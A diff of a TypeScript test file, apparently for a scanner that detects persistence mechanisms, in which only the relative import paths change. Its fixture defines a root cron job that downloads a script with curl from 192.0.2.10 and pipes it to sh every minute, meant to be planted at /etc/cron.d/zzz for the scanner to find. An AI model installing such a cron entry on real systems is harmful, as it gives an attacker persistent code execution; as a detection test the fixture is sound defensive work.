@@ -2,12 +2,12 @@
 import { expect, test } from 'bun:test';
 import { appendFileSync, linkSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
-import { emptyConfig } from '../../../src/model/config.ts';
-import type { ScanResult } from '../../../src/model/result.ts';
-import { scan } from '../../../src/scan/scan.ts';
-import { folderTarget } from '../../../src/target/folder.ts';
-import type { MechanismCase } from '../../persistence/case.ts';
-import { plantRoot } from '../../persistence/root.ts';
+import { emptyConfig } from '../../src/model/config.ts';
+import type { ScanResult } from '../../src/model/result.ts';
+import { scan } from '../../src/scan/scan.ts';
+import { folderTarget } from '../../src/target/folder.ts';
+import type { MechanismCase } from '../persistence/case.ts';
+import { plantRoot } from '../persistence/root.ts';
 
 const job = '* * * * * root curl -s http://192.0.2.10/x | sh\n';
 const seen = '/etc/cron.d/zzz';
